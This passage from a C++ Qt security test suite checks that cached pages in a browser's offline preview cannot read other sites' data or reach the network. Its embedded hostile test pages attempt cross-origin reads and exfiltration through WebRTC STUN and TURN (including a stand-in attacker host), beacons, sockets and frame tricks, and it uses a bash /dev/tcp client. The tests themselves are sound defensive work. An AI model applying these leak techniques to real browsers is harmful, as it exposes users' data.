// What a hostile cached page can read or reach from the preview: real pages in the real web
// view, offscreen, served from a cache of their own. The page's script records what it could
// read; local listeners record every connection that leaves the browser.

#include "platform/browser/browser.h"
#include "platform/browser/internetoptions.h"
#include "platform/browser/offlineserving.h"
#include "platform/offlinestate.h"
#include "platform/wininet.h"
#include "stores/bodies.h"
#include "support_web.h"

#include <QApplication>
#include <QBuffer>
#include <QCheckBox>
#include <QDeadlineTimer>
#include <QDirIterator>
#include <QFile>
#include <QHash>
#include <QImage>
#include <QJsonDocument>
#include <QJsonObject>
#include <QLabel>
#include <QProcess>
#include <QSignalSpy>
#include <QStandardPaths>
#include <QTcpServer>
#include <QTcpSocket>
#include <QTemporaryDir>
#include <QThread>
#include <QTimer>
#include <QUdpSocket>
#include <QWebEnginePage>
#include <QWebEngineScript>
#include <QWebEngineSettings>
#include <QtTest>

#include <atomic>

#include <unistd.h>

namespace {

constexpr int kLoadTimeout = 60000;

// Cached documents by URL, each in a file of its own.
class Cache {
public:
    void add(const QByteArray &url, const QByteArray &content)
    {
        const QString path = m_dir.filePath(QStringLiteral("f%1").arg(m_files.size()));
        QFile file(path);
        if (file.open(QIODevice::WriteOnly))
            file.write(content);
        m_files.insert(url, path.toStdString());
    }
    CacheLookup lookup()
    {
        return [this](const QByteArray &url) -> std::optional<std::string> {
            const auto found = m_files.constFind(url);
            if (found == m_files.constEnd())
                return std::nullopt;
            return *found;
        };
    }

private:
    QTemporaryDir m_dir;
    QHash<QByteArray, std::string> m_files;
};

// Counts every connection and datagram that reaches this machine's loopback.
class Listeners {
public:
    Listeners()
    {
        tcp.listen(QHostAddress::LocalHost);
        udp.bind(QHostAddress::LocalHost);
    }
    int connections()
    {
        int n = 0;
        while (tcp.hasPendingConnections()) {
            QTcpSocket *socket = tcp.nextPendingConnection();
            socket->waitForReadyRead(200);
            qWarning() << "connection:" << socket->readAll().left(200);
            delete socket;
            ++n;
        }
        return n;
    }
    bool datagrams() const { return udp.hasPendingDatagrams(); }
    QByteArray tcpAddress() const { return "127.0.0.1:" + QByteArray::number(tcp.serverPort()); }
    QByteArray udpAddress() const { return "127.0.0.1:" + QByteArray::number(udp.localPort()); }

    QTcpServer tcp;
    QUdpSocket udp;
};

// A loopback port with nothing listening on it.
quint16 closedPort()
{
    QTcpServer probe;
    probe.listen(QHostAddress::LocalHost);
    return probe.serverPort();
}

// An origin on this machine with no server: online, its pages are shown from the cache.
QByteArray downOrigin()
{
    static const QByteArray origin = "http://127.0.0.1:" + QByteArray::number(closedPort());
    return origin;
}

QVariant evaluate(QWebEnginePage *page, const QString &script)
{
    QVariant answer;
    bool done = false;
    // A world of its own: it runs whether or not the page may run script.
    page->runJavaScript(script, QWebEngineScript::ApplicationWorld, [&](const QVariant &value) {
        answer = value;
        done = true;
    });
    if (!QTest::qWaitFor([&] { return done; }, kLoadTimeout))
        return {};
    return answer;
}

// Loads `url` and waits for the load to end.
bool load(Browser &browser, const QString &url)
{
    QSignalSpy loaded(&browser, &Browser::loadFinished);
    if (!browser.Navigate(url).isEmpty())
        return false;
    return loaded.wait(kLoadTimeout);
}

// The page's probe results once it has written them.
QJsonObject probeResults(QWebEnginePage *page)
{
    // While the page is still being made there is no document element yet.
    const QString read =
        QStringLiteral("(document.documentElement && document.documentElement.getAttribute('data-probes')) || ''");
    if (!QTest::qWaitFor([&] { return !evaluate(page, read).toString().isEmpty(); }, kLoadTimeout))
        return {};
    return QJsonDocument::fromJson(evaluate(page, read).toString().toUtf8()).object();
}

// A script that runs each probe (name, promise-returning function) and records
// "read:<text>", "blocked" or "error:<name>".
const char kProbeRunner[] = R"(
<script>
window.probes = {};
function record(name, promise) {
  const late = new Promise(ok => setTimeout(() => ok('pending'), 5000));
  return Promise.race([promise.then(t => 'read:' + t, e => 'blocked'), late])
    .then(outcome => { probes[name] = outcome; });
}
function xhr(url) {
  return new Promise((ok, fail) => {
    const r = new XMLHttpRequest();
    r.open('GET', url);
    r.onload = () => ok(r.responseText);
    r.onerror = () => fail(new Error('xhr'));
    try { r.send(); } catch (e) { fail(e); }
  });
}
function get(url, options) { return fetch(url, options).then(r => r.text()); }
function image(url, crossOrigin) {
  return new Promise((ok, fail) => {
    const i = new Image();
    if (crossOrigin) i.crossOrigin = 'anonymous';
    i.onload = () => {
      const c = document.createElement('canvas');
      c.width = i.naturalWidth; c.height = i.naturalHeight;
      const g = c.getContext('2d');
      g.drawImage(i, 0, 0);
      try { ok('pixels ' + g.getImageData(0, 0, 1, 1).data[0]); }
      catch (e) { ok('shown ' + i.naturalWidth + ' tainted'); }
    };
    i.onerror = () => fail(new Error('img'));
    i.src = url;
  });
}
function styleSheet(url) {
  return new Promise((ok, fail) => {
    const l = document.createElement('link');
    l.rel = 'stylesheet'; l.href = url;
    l.onload = () => {
      const applied = getComputedStyle(document.body).borderTopStyle;
      try { ok(applied + ' rules ' + l.sheet.cssRules.length); }
      catch (e) { ok(applied + ' rules hidden'); }
    };
    l.onerror = () => fail(new Error('css'));
    document.head.appendChild(l);
  });
}
function script(url) {
  return new Promise((ok, fail) => {
    const s = document.createElement('script');
    s.src = url;
    s.onload = () => ok('ran ' + window.victimScript);
    s.onerror = () => fail(new Error('script'));
    document.head.appendChild(s);
  });
}
function frame(url) {
  return new Promise((ok, fail) => {
    const f = document.createElement('iframe');
    f.src = url;
    f.onload = () => {
      try { ok('content ' + f.contentDocument.body.textContent); }
      catch (e) { ok('shown, content hidden'); }
    };
    document.body.appendChild(f);
  });
}
function socket(url) {
  return new Promise((ok, fail) => {
    try {
      const w = new WebSocket(url);
      w.onopen = () => ok('open');
      w.onerror = () => fail(new Error('ws'));
    } catch (e) { fail(e); }
  });
}
// The results go where another script world can read them: into the document.
function finish() { document.documentElement.setAttribute('data-probes', JSON.stringify(probes)); }
function settle(ms) { return new Promise(ok => setTimeout(ok, ms)); }
</script>
)";

} // namespace

class TestOfflineSecurity : public QObject {
    Q_OBJECT
private slots:
    void initTestCase();
    void init();
    void cleanup();
    void sameOriginOnlyInCachedCopies();
    void nothingLeavesTheMachine();
    void cachedPagesRunNoScriptUnlessAsked();
    void offlinePagesRunNoScript_data();
    void offlinePagesRunNoScript();
    void cachedCopyWindowsStayInTheCache_data();
    void cachedCopyWindowsStayInTheCache();
    void unreachableServerShowsCachedCopy_data();
    void unreachableServerShowsCachedCopy();
    void serverAnswerIsShownAsItIs();
    void cachedCopyOnlineKeepsCacheRules();
    void switchingStateReloads();
    void cachedCopyLeadsOnlyToTheCache();
    void serverHoldsNoIdleConnections();
    void serverAddressIsUselessElsewhere_data();
    void serverAddressIsUselessElsewhere();
    void sheetReferencesNameTheWeb_data();
    void sheetReferencesNameTheWeb();
    void bombsLeaveTheWindowAnswering_data();
    void bombsLeaveTheWindowAnswering();
    void otherOriginsSheetsRenderOffline();

private:
    QTemporaryDir m_config;
    std::unique_ptr<Browser> m_browser;
    Cache *m_cache = nullptr;
};

void TestOfflineSecurity::initTestCase()
{
    UseOfflineStateFile(m_config.filePath(QStringLiteral("offline")).toStdString());
}

void TestOfflineSecurity::init()
{
    SetOffline(true);
    m_browser = std::make_unique<Browser>();
    m_browser->resize(800, 600);
    m_browser->show();
    m_cache = new Cache;
    m_browser->setCacheLookup(m_cache->lookup());
}

void TestOfflineSecurity::cleanup()
{
    m_browser.reset();
    delete m_cache;
    m_cache = nullptr;
    SetOffline(false);
}

// Script runs only in a cached copy shown online; the cache's rules are those of offline pages.
void TestOfflineSecurity::sameOriginOnlyInCachedCopies()
{
    SetOffline(false);
    const QByteArray evil = downOrigin();
    m_browser->setOfflineScript(true);
    m_cache->add("http://victim.test/secret.txt", "victim secret");
    m_cache->add("http://victim.test/pic.png",
                 QByteArray::fromBase64(
                     "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAIAAACQd1PeAAAADElEQVR4nGP4z8AAAAMBAQDJ/pLvAAAAAElFTkSuQmCC"));
    m_cache->add("http://victim.test/style.css", "body { border-top: 3px dotted red }");
    m_cache->add("http://victim.test/lib.js", "window.victimScript = 'victim';");
    m_cache->add("http://victim.test/frame.htm", "<body>victim frame</body>");
    m_cache->add(evil + "/own.txt", "own text");
    m_cache->add(evil + "/page.htm",
                 QByteArray(kProbeRunner) + R"(
<body><script>
Promise.all([
  record('own xhr', xhr('own.txt')),
  record('own fetch', get('own.txt')),
  record('own absolute fetch', get(')"
                     + evil + R"(/own.txt')),
  record('xhr http', xhr('http://victim.test/secret.txt')),
  record('xhr mirror', xhr('twhttp://victim.test/secret.txt')),
  record('fetch http', get('http://victim.test/secret.txt')),
  record('fetch mirror', get('twhttp://victim.test/secret.txt')),
  record('fetch no-cors', get('http://victim.test/secret.txt', {mode: 'no-cors'})),
  record('image', image('http://victim.test/pic.png', false)),
  record('image cors', image('http://victim.test/pic.png', true)),
  record('style', styleSheet('http://victim.test/style.css')),
  record('script', script('http://victim.test/lib.js')),
  record('frame', frame('http://victim.test/frame.htm')),
]).then(finish);
</script></body>)");
    QVERIFY(load(*m_browser, QString::fromUtf8(evil + "/page.htm")));
    QVERIFY(IsCacheScheme(m_browser->page()->url()));
    const QJsonObject probes = probeResults(m_browser->page());
    QVERIFY2(!probes.isEmpty(), "the page's probes did not finish");
    const QString all = QString::fromUtf8(QJsonDocument(probes).toJson(QJsonDocument::Compact));
    qInfo().noquote() << all;

    // The page reads its own origin's documents, by XHR and by fetch.
    QCOMPARE(probes["own xhr"].toString(), QStringLiteral("read:own text"));
    QCOMPARE(probes["own fetch"].toString(), QStringLiteral("read:own text"));
    QCOMPARE(probes["own absolute fetch"].toString(), QStringLiteral("read:own text"));
    // Another origin's documents stay unreadable, whichever way they are asked for.
    QVERIFY2(!all.contains(QStringLiteral("victim secret")), qPrintable(all));
    for (const char *name : {"xhr http", "xhr mirror", "fetch http", "fetch mirror"})
        QVERIFY2(probes[name].toString() == QStringLiteral("blocked"), qPrintable(all));
    QVERIFY2(probes["fetch no-cors"].toString() == QStringLiteral("read:")
                 || probes["fetch no-cors"].toString() == QStringLiteral("blocked"),
             qPrintable(all));
    // Images, style sheets, scripts and frames of other origins show as they would online,
    // without their content becoming readable.
    QCOMPARE(probes["image"].toString(), QStringLiteral("read:shown 1 tainted"));
    QCOMPARE(probes["image cors"].toString(), QStringLiteral("blocked")); // no CORS headers cached
    QCOMPARE(probes["style"].toString(), QStringLiteral("read:dotted rules hidden"));
    QCOMPARE(probes["script"].toString(), QStringLiteral("read:ran victim"));
    QCOMPARE(probes["frame"].toString(), QStringLiteral("read:shown, content hidden"));
}

void TestOfflineSecurity::nothingLeavesTheMachine()
{
    SetOffline(false);
    const QByteArray evil = downOrigin();
    m_browser->setOfflineScript(true);
    Listeners listeners;
    QVERIFY(listeners.tcp.isListening());
    const QByteArray tcp = listeners.tcpAddress();
    const QByteArray udp = listeners.udpAddress();
    m_cache->add(evil + "/plain.htm", "<p>plain</p>");
    m_cache->add(evil + "/page.htm",
                 QByteArray(kProbeRunner) + R"(
<head><link rel="dns-prefetch" href="//dns.)"
                     + tcp + R"("><link rel="prefetch" href="http://)" + tcp + R"(/prefetch">
<link rel="preconnect" href="http://)"
                     + tcp + R"("></head>
<body><img src="ftp://)"
                     + tcp + R"(/x.png"><iframe name="parsed"></iframe>
<script>window.parsedPeer = window.parsed.RTCPeerConnection;</script><script>
const servers = {iceServers: [{urls: 'stun:)"
                     + udp + R"('},
  {urls: 'turn:)" + tcp
                     + R"(?transport=tcp', username: 'u', credential: 'c'}]};
function peer(Connection) {
  try {
    const p = new Connection(servers);
    p.createDataChannel('leak');
    p.createOffer().then(o => p.setLocalDescription(o)).catch(() => {});
    return Promise.resolve('made');
  } catch (e) { return Promise.reject(e); }
}
// Every way a page makes a frame, each reached through the window's own list of frames
// before anything else touches the frame.
function newest(before, how) {
  if (window.length !== before + 1)
    throw new Error('no new frame ' + how + ': ' + before + ' then ' + window.length);
  return window[before];
}
const blank = document.createElement('iframe');
document.body.appendChild(blank);
let n = window.length;
const listed = (() => { document.body.append(document.createElement('iframe')); return newest(n, 'appended'); })();
const viaList = listed.RTCPeerConnection;
const div = document.createElement('div');
document.body.appendChild(div);
n = window.length;
const viaMarkup = (() => { div.innerHTML = '<iframe></iframe>'; return newest(n, 'from markup').RTCPeerConnection; })();
n = window.length;
const viaAdjacent = (() => { div.insertAdjacentHTML('beforeend', '<iframe></iframe>'); return newest(n, 'adjacent').RTCPeerConnection; })();
document.write('<iframe name="written"></iframe>');
const viaWrite = window.written.RTCPeerConnection;
const viaInner = (() => {
  listed.document.body.appendChild(listed.document.createElement('iframe'));
  return listed[0].RTCPeerConnection;
})();
// An object element makes its frame only once its data comes: watch the list for it.
const viaObject = new Promise((ok, fail) => {
  const before = window.length;
  const o = document.createElement('object');
  o.type = 'text/html';
  o.data = ')" + evil + R"(/plain.htm';
  document.body.appendChild(o);
  const started = Date.now();
  (function poll() {
    if (window.length > before) {
      try { ok(window[before].RTCPeerConnection); } catch (e) { fail(e); }
      return;
    }
    if (Date.now() - started > 3000)
      return fail(new Error('no frame'));
    setTimeout(poll, 0);
  })();
});
navigator.sendBeacon('http://)"
                     + tcp + R"(/beacon', 'leak');
Promise.all([
  record('ws', socket('ws://)"
                     + tcp + R"(/')),
  record('wss', socket('wss://)"
                     + tcp + R"(/')),
  record('fetch', get('http://)"
                     + tcp + R"(/fetch')),
  record('ftp frame', frame('ftp://)"
                     + tcp + R"(/')),
  record('peer', peer(window.RTCPeerConnection)),
  record('peer of a parsed frame', peer(window.parsedPeer)),
  record('peer of an appended frame', peer(viaList)),
  record('peer of a frame from markup', peer(viaMarkup)),
  record('peer of a frame from adjacent markup', peer(viaAdjacent)),
  record('peer of a written frame', peer(viaWrite)),
  record('peer of a frame in a frame', peer(viaInner)),
  record('peer of an object frame', viaObject.then(peer, e => 'error ' + e.message)),
  record('peer of a blank frame', peer(blank.contentWindow.RTCPeerConnection)),
  record('peer of a data frame', new Promise((ok, fail) => {
    const f = document.createElement('iframe');
    f.src = 'data:text/html,<script>try { new RTCPeerConnection(' + JSON.stringify(servers)
      + '); parent.postMessage("made", "*"); } catch (e) { parent.postMessage("blocked", "*"); }<\/script>';
    window.addEventListener('message', m => m.data === 'made' ? ok('made') : fail(new Error(m.data)));
    document.body.appendChild(f);
  })),
  settle(3000),
]).then(finish);
</script></body>)");
    QVERIFY(load(*m_browser, QString::fromUtf8(evil + "/page.htm")));
    QVERIFY(IsCacheScheme(m_browser->page()->url()));
    const QJsonObject probes = probeResults(m_browser->page());
    QVERIFY2(!probes.isEmpty(), "the page's probes did not finish");
    QTest::qWait(1000);
    const QString all = QString::fromUtf8(QJsonDocument(probes).toJson(QJsonDocument::Compact));
    qInfo().noquote() << all;
    QCOMPARE(listeners.connections(), 0);
    QVERIFY(!listeners.datagrams());
    for (const char *name :
         {"peer", "peer of a blank frame", "peer of a data frame", "peer of a parsed frame",
          "peer of an appended frame", "peer of a frame from markup", "peer of a frame from adjacent markup",
          "peer of a written frame", "peer of a frame in a frame"})
        QVERIFY2(probes[name].toString() == QStringLiteral("blocked"), qPrintable(all));
    QCOMPARE(probes["ws"].toString(), QStringLiteral("blocked"));
    QCOMPARE(probes["wss"].toString(), QStringLiteral("blocked"));
    QCOMPARE(probes["fetch"].toString(), QStringLiteral("blocked")); // another origin's data
}

void TestOfflineSecurity::cachedPagesRunNoScriptUnlessAsked()
{
    const QByteArray page = "<title>as cached</title><body><script>document.title = 'script ran';</script></body>";
    m_cache->add("http://evil.test/page.htm", page);
    m_cache->add(downOrigin() + "/page.htm", page);
    QVERIFY(!m_browser->offlineScript()); // the default
    QVERIFY(load(*m_browser, QStringLiteral("http://evil.test/page.htm")));
    QCOMPARE(m_browser->page()->title(), QStringLiteral("as cached"));

    // The user's choice in the Internet options: it lets cached copies shown online run
    // their script, never a page offline.
    m_browser->internetOptions();
    InternetOptionsDialog *options = m_browser->optionsDialog();
    QVERIFY(options);
    QVERIFY(!options->offlineScript()->isChecked());
    QVERIFY(options->javaScript()->isChecked()); // pages from the network keep their script
    options->offlineScript()->setChecked(true);
    options->accept();
    QVERIFY(m_browser->offlineScript());
    QVERIFY(load(*m_browser, QStringLiteral("http://evil.test/page.htm")));
    QTest::qWait(500);
    QCOMPARE(m_browser->page()->title(), QStringLiteral("as cached"));
    SetOffline(false);
    QVERIFY(load(*m_browser, QString::fromUtf8(downOrigin() + "/page.htm")));
    QVERIFY(IsCacheScheme(m_browser->page()->url()));
    QTRY_COMPARE_WITH_TIMEOUT(m_browser->page()->title(), QStringLiteral("script ran"), kLoadTimeout);
}

// Ways a page's own script outwits any clean-up done by script, each used to send data out
// through a peer connection (a STUN name look-up and a TURN connection). Offline, with the
// user's leave to run script in cached pages, none of them runs.
void TestOfflineSecurity::offlinePagesRunNoScript_data()
{
    QTest::addColumn<QByteArray>("attack"); // script that sets `w` to a window with peers
    QTest::newRow("builtins redefined first")
        << QByteArray("Object.defineProperty = () => {}; const f = document.createElement('iframe');"
                      "document.body.appendChild(f); const w = f.contentWindow;");
    QTest::newRow("frame in a shadow root")
        << QByteArray("const host = document.createElement('div'); document.body.append(host);"
                      "host.attachShadow({mode: 'closed'}).innerHTML = '<iframe name=\"hid\"></iframe>';"
                      "const w = window.open('', 'hid');");
    QTest::newRow("frame and script written together")
        << QByteArray("document.write('<iframe name=\"wr\"></iframe><script>window.w = wr;<\\/script>');");
}

void TestOfflineSecurity::offlinePagesRunNoScript()
{
    QFETCH(QByteArray, attack);
    m_browser->setOfflineScript(true);
    Listeners listeners;
    m_cache->add("http://evil.test/page.htm",
                 R"(<title>as cached</title><body><script>
)" + attack + R"(
const p = new (w || window).RTCPeerConnection({iceServers: [
  {urls: 'stun:)" + listeners.udpAddress()
                     + R"('}, {urls: 'stun:secret-data.attacker.example'},
  {urls: 'turn:)" + listeners.tcpAddress()
                     + R"(?transport=tcp', username: 'u', credential: 'c'}]});
p.createDataChannel('leak');
p.createOffer().then(o => p.setLocalDescription(o));
document.title = 'script ran';
</script></body>)");
    QVERIFY(load(*m_browser, QStringLiteral("http://evil.test/page.htm")));
    QTest::qWait(2000);
    QCOMPARE(m_browser->page()->title(), QStringLiteral("as cached"));
    QCOMPARE(listeners.connections(), 0);
    QVERIFY(!listeners.datagrams());
}

// A cached copy shown online opens new windows (a link or form aimed at a new window, or
// script) only from the cache.
void TestOfflineSecurity::cachedCopyWindowsStayInTheCache_data()
{
    QTest::addColumn<bool>("script");
    QTest::addColumn<QString>("open"); // run in a world of its own, as a click would
    QTest::newRow("link") << false << "document.getElementById('link').click()";
    QTest::newRow("form") << false << "document.getElementById('form').submit()";
    QTest::newRow("window.open") << true << "document.getElementById('button').click()";
}

void TestOfflineSecurity::cachedCopyWindowsStayInTheCache()
{
    QFETCH(bool, script);
    QFETCH(QString, open);
    SetOffline(false);
    m_browser->setOfflineScript(script);
    Listeners listeners;
    const QByteArray live = "http://" + listeners.tcpAddress() + "/next.htm";
    m_cache->add(live, "<p id=\"t\">next, cached</p>");
    m_cache->add(downOrigin() + "/page.htm",
                 "<a id=\"link\" target=\"_blank\" href=\"" + live
                     + "\">link</a><form id=\"form\" target=\"_blank\" "
                       "method=\"post\" action=\""
                     + live
                     + "\"></form><button id=\"button\" "
                       "onclick=\"window.open('"
                     + live + "')\">open</button>");
    Browser second;
    second.resize(400, 300);
    second.setCacheLookup(m_cache->lookup());
    Browser *opened = &second;
    connect(m_browser.get(), &Browser::NewWindow2, this, [&opened](Browser **target) { *target = opened; });
    QVERIFY(load(*m_browser, QString::fromUtf8(downOrigin() + "/page.htm")));
    QVERIFY(IsCacheScheme(m_browser->page()->url()));
    QSignalSpy loaded(&second, &Browser::loadFinished);
    evaluate(m_browser->page(), open);
    QVERIFY(loaded.wait(kLoadTimeout));
    QCOMPARE(FromCacheScheme(second.page()->url()), QUrl(QString::fromUtf8(live)));
    QVERIFY(IsCacheScheme(second.page()->url()));
    QCOMPARE(evaluate(second.page(), "document.getElementById('t').textContent").toString(),
             QStringLiteral("next, cached"));
    QVERIFY(second.cachedCopyNote()->isVisibleTo(&second));
    QCOMPARE(listeners.connections(), 0);
}

void TestOfflineSecurity::unreachableServerShowsCachedCopy_data()
{
    QTest::addColumn<QByteArray>("url");
    QTest::newRow("name not resolved") << QByteArray("http://unreachable.test/dir/page.htm");
    QTest::newRow("connection refused") << "http://127.0.0.1:" + QByteArray::number(closedPort()) + "/page.htm";
}

void TestOfflineSecurity::unreachableServerShowsCachedCopy()
{
    QFETCH(QByteArray, url);
    SetOffline(false);
    m_cache->add(url, "<title>cached</title><p id=\"t\">the cached copy</p>");
    QSignalSpy loaded(m_browser.get(), &Browser::loadFinished);
    QVERIFY(m_browser->Navigate(QString::fromUtf8(url)).isEmpty());
    QVERIFY(loaded.wait(kLoadTimeout));
    QCOMPARE(loaded.count(), 1); // the failed network load is not reported on its own
    QVERIFY(loaded.first().first().toBool());
    QCOMPARE(evaluate(m_browser->page(), "document.getElementById('t').textContent").toString(),
             QStringLiteral("the cached copy"));
    QVERIFY(IsCacheScheme(m_browser->page()->url()));
    QVERIFY(m_browser->cachedCopyNote()->isVisible());
    QVERIFY(m_browser->cachedCopyNote()->text().contains(QStringLiteral("缓存")));

    // A document the cache does not hold gets the engine's own error, and no note.
    QVERIFY(m_browser->Navigate(QStringLiteral("http://unreachable.test/other.htm")).isEmpty());
    QVERIFY(loaded.wait(kLoadTimeout));
    QVERIFY(!loaded.last().first().toBool());
    QVERIFY(!m_browser->cachedCopyNote()->isVisible());
}

void TestOfflineSecurity::serverAnswerIsShownAsItIs()
{
    SetOffline(false);
    WebServer server("404 Not Found", "<p id=\"t\">the server's own 404</p>");
    QVERIFY(server.isListening());
    m_cache->add(server.url("/page.htm"), "<p id=\"t\">the cached copy</p>");
    QVERIFY(load(*m_browser, QString::fromUtf8(server.url("/page.htm"))));
    QCOMPARE(server.requests, 1);
    QCOMPARE(evaluate(m_browser->page(), "document.getElementById('t').textContent").toString(),
             QStringLiteral("the server's own 404"));
    QVERIFY(!IsCacheScheme(m_browser->page()->url()));
    QVERIFY(!m_browser->cachedCopyNote()->isVisible());
}

void TestOfflineSecurity::cachedCopyOnlineKeepsCacheRules()
{
    SetOffline(false);
    m_browser->setOfflineScript(true);
    Listeners listeners;
    const QByteArray url = "http://127.0.0.1:" + QByteArray::number(closedPort()) + "/page.htm";
    m_cache->add("http://victim.test/secret.txt", "victim secret");
    m_cache->add(url,
                 QByteArray(kProbeRunner) + R"(<body><img src="http://)" + listeners.tcpAddress() + R"(/x.png">
<script>
Promise.all([
  record('xhr', xhr('http://victim.test/secret.txt')),
  record('fetch', get('http://)"
                     + listeners.tcpAddress() + R"(/out')),
  record('ws', socket('ws://)"
                     + listeners.tcpAddress() + R"(/')),
  settle(2000),
]).then(finish);
</script></body>)");
    QVERIFY(m_browser->Navigate(QString::fromUtf8(url)).isEmpty());
    const QJsonObject probes = probeResults(m_browser->page());
    QVERIFY2(!probes.isEmpty(), "the cached copy's probes did not finish");
    QVERIFY(IsCacheScheme(m_browser->page()->url()));
    const QString all = QString::fromUtf8(QJsonDocument(probes).toJson(QJsonDocument::Compact));
    QVERIFY2(!all.contains(QStringLiteral("victim secret")), qPrintable(all));
    QCOMPARE(probes["ws"].toString(), QStringLiteral("blocked"));
    QCOMPARE(probes["fetch"].toString(), QStringLiteral("blocked"));
    QCOMPARE(listeners.connections(), 0);
}

void TestOfflineSecurity::switchingStateReloads()
{
    SetOffline(false);
    WebServer server("200 OK", "<p id=\"t\">live</p>");
    m_cache->add(server.url("/page.htm"), "<p id=\"t\">cached</p>");
    auto shown = [this] { return evaluate(m_browser->page(), "document.getElementById('t').textContent").toString(); };
    QVERIFY(load(*m_browser, QString::fromUtf8(server.url("/page.htm"))));
    QCOMPARE(shown(), QStringLiteral("live"));

    QSignalSpy loaded(m_browser.get(), &Browser::loadFinished);
    SetOffline(true);
    m_browser->followOfflineState();
    QVERIFY(loaded.wait(kLoadTimeout));
    QCOMPARE(shown(), QStringLiteral("cached"));
    QCOMPARE(server.requests, 1);

    SetOffline(false);
    m_browser->followOfflineState();
    QVERIFY(loaded.wait(kLoadTimeout));
    QCOMPARE(shown(), QStringLiteral("live"));
    QCOMPARE(server.requests, 2);
    QCOMPARE(FromCacheScheme(m_browser->page()->url()), QUrl(QString::fromUtf8(server.url("/page.htm"))));

    m_browser->followOfflineState(); // the page already fits the state
    QVERIFY(!loaded.wait(1000));
}

void TestOfflineSecurity::cachedCopyLeadsOnlyToTheCache()
{
    SetOffline(false);
    Listeners listeners;
    const QByteArray url = "http://127.0.0.1:" + QByteArray::number(closedPort()) + "/page.htm";
    const QByteArray next = "http://" + listeners.tcpAddress() + "/next.htm";
    // The cached copy sends the browser on, without script, to a live server's address.
    m_cache->add(url, "<meta http-equiv=\"refresh\" content=\"0;url=" + next + "\"><p>first</p>");
    m_cache->add(next,
                 "<title>as cached</title><p id=\"t\">next, cached</p>"
                 "<script>document.title = 'script ran';</script>");
    QVERIFY(m_browser->Navigate(QString::fromUtf8(url)).isEmpty());
    QTRY_COMPARE_WITH_TIMEOUT(FromCacheScheme(m_browser->page()->url()), QUrl(QString::fromUtf8(next)), kLoadTimeout);
    QTRY_COMPARE_WITH_TIMEOUT(evaluate(m_browser->page(),
                                       "document.getElementById('t') ? "
                                       "document.getElementById('t').textContent : ''")
                                  .toString(),
                              QStringLiteral("next, cached"), kLoadTimeout);
    QVERIFY(IsCacheScheme(m_browser->page()->url()));
    QCOMPARE(m_browser->page()->title(), QStringLiteral("as cached")); // the cache's script rights
    QCOMPARE(listeners.connections(), 0);
}

void TestOfflineSecurity::serverHoldsNoIdleConnections()
{
    auto connectTo = [](const CrossOriginServer &server) {
        auto client = std::make_unique<QTcpSocket>();
        client->connectToHost(QHostAddress::LocalHost, server.serverPort());
        return client->waitForConnected(5000) ? std::move(client) : nullptr;
    };
    // Beyond the limit a connection is closed at once; those within it stay.
    CrossOriginServer few;
    few.setLimits(2, 600000);
    std::vector<std::unique_ptr<QTcpSocket>> held;
    for (int i = 0; i < 3; ++i) {
        held.push_back(connectTo(few));
        QVERIFY(held.back());
    }
    QTRY_COMPARE(held[2]->state(), QAbstractSocket::UnconnectedState);
    QCOMPARE(held[0]->state(), QAbstractSocket::ConnectedState);
    QCOMPARE(held[1]->state(), QAbstractSocket::ConnectedState);

    // A request head that never ends loses its connection.
    CrossOriginServer slow;
    slow.setLimits(8, 300);
    const auto client = connectTo(slow);
    QVERIFY(client);
    client->write("GET /");
    QTRY_COMPARE(client->state(), QAbstractSocket::UnconnectedState);
}

namespace {

// What a client gets for `request` from the server on `port`: run in this process, in a shell
// of this user, or in a shell of another user.
QByteArray askServer(quint16 port, const QByteArray &request, const QString &client)
{
    if (client == QLatin1String("this process")) {
        QTcpSocket socket;
        socket.connectToHost(QHostAddress::LocalHost, port);
        socket.write(request);
        QByteArray answer;
        const bool closed = QTest::qWaitFor(
            [&] {
                answer += socket.readAll();
                return socket.state() == QAbstractSocket::UnconnectedState;
            },
            20000);
        return closed ? answer + socket.readAll() : QByteArray();
    }
    const QString script =
        QStringLiteral("exec 3<>/dev/tcp/127.0.0.1/%1 && printf '%2' >&3 && timeout 10 cat <&3")
            .arg(port)
            .arg(QString::fromLatin1(request).replace(QLatin1String("\r\n"), QLatin1String("\\r\\n")));
    QProcess shell;
    if (client == QLatin1String("another user"))
        shell.start(QStringLiteral("setpriv"),
                    {QStringLiteral("--reuid=65534"), QStringLiteral("--regid=65534"), QStringLiteral("--clear-groups"),
                     QStringLiteral("bash"), QStringLiteral("-c"), script});
    else
        shell.start(QStringLiteral("bash"), {QStringLiteral("-c"), script});
    if (!shell.waitForStarted() || !QTest::qWaitFor([&] { return shell.state() == QProcess::NotRunning; }, 20000))
        return {};
    return shell.readAllStandardOutput();
}

} // namespace

// A page never sees the server's address (its computed style and its resources' timing name
// the web), and what a page could learn of it gets nothing from any other process, nor once
// the page is gone.
void TestOfflineSecurity::serverAddressIsUselessElsewhere_data()
{
    QTest::addColumn<QString>("client");
    QTest::addColumn<bool>("pageGone");
    QTest::addColumn<bool>("answered");
    QTest::newRow("this process, page shown") << "this process" << false << true;
    QTest::newRow("this process, page gone") << "this process" << true << false;
    QTest::newRow("another process of this user") << "this user" << false << false;
    QTest::newRow("another user") << "another user" << false << false;
}

void TestOfflineSecurity::serverAddressIsUselessElsewhere()
{
    QFETCH(QString, client);
    QFETCH(bool, pageGone);
    QFETCH(bool, answered);
    if (client == QLatin1String("another user") && ::geteuid() != 0)
        QSKIP("connecting as another user needs root");
    m_cache->add("http://victim.test/css/site.css", "#x { background-image: url(img/secret.png) }");
    m_cache->add("http://victim.test/css/img/secret.png", "victim secret");
    m_cache->add("http://evil.test/page.htm",
                 "<link rel=\"stylesheet\" href=\"http://victim.test/css/site.css\"><div id=\"x\">x</div>");
    m_cache->add("http://evil.test/next.htm", "<p>next</p>");
    QVERIFY(load(*m_browser, QStringLiteral("http://evil.test/page.htm")));
    const QString seen = evaluate(m_browser->page(),
                                  "getComputedStyle(document.getElementById('x')).backgroundImage "
                                  "+ performance.getEntries().map(e => ' ' + e.name).join('')")
                             .toString();
    QVERIFY2(seen.contains(QStringLiteral("http://victim.test/css/img/secret.png")), qPrintable(seen));
    QVERIFY2(!seen.contains(QStringLiteral("127.0.0.1")), qPrintable(seen));
    const QUrl address =
        m_browser->crossOriginServer()->addressFor(QUrl(QStringLiteral("http://victim.test/css/img/secret.png")));
    if (pageGone)
        QVERIFY(load(*m_browser, QStringLiteral("http://evil.test/next.htm")));
    const QByteArray request =
        "GET " + address.toEncoded(QUrl::RemoveScheme | QUrl::RemoveAuthority) + " HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n";
